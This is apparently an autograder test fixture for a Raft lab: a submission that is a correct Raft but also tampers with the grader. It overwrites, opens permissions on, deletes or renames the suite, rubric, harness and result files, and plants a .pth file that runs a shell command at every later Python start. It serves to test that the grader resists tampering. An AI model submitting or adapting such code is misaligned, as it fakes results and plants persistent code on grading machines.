# base: reference
"""Write the grader's files: the suite, the rubric, the harness, a .pth file that
would run in every later Python, the results of this and other submissions, and
a file anywhere. A correct Raft otherwise: it must get exactly its 100."""
import glob as _glob
import os as _os
import site as _site
import sys as _sys

_MARK = "# tampered by a submission\n"


def _targets():
    found = []
    roots = list(_sys.path) + ["/autograder", "/autograder/source", "/autograder/source/raftlab",
                              "/autograder/results", _os.getcwd()]
    for root in roots:
        for name in ("grader/suite/test_2a.py", "grader/rubric.toml", "rubric.toml",
                     "harness/_trusted/tester.py", "results.json", "raftlab.json"):
            found.append(_os.path.join(root, name))
    for pattern in ("/tmp/*/*.json", "/tmp/*/*/*.json", "/tmp/*/*.csv", "/tmp/*/*/*.csv",
                    "/tmp/pytest-of-*/*/*/out/*", "/tmp/pytest-of-*/*/*/*/results/*"):
        try:
            found += _glob.glob(pattern)[:50]
        except BaseException:
            pass
    return found


def _tamper():
    for path in _targets():
        for how in ("a", "w"):
            try:
                with open(path, how) as f:
                    f.write(_MARK)
            except BaseException:
                pass
        for act in (lambda: _os.chmod(path, 0o777), lambda: _os.unlink(path),
                    lambda: _os.rename(path, path + ".bak")):
            try:
                act()
            except BaseException:
                pass
    for folder in _site.getsitepackages() + ["/tmp"]:
        try:
            with open(_os.path.join(folder, "zz_raftlab_pwned.pth"), "w") as f:
                f.write("import os; os.system('touch /tmp/raftlab-pwned')\n")
        except BaseException:
            pass


_tamper()
_init = Raft.__init__


def __init__(self, *args):
    _init(self, *args)
    _tamper()


Raft.__init__ = __init__
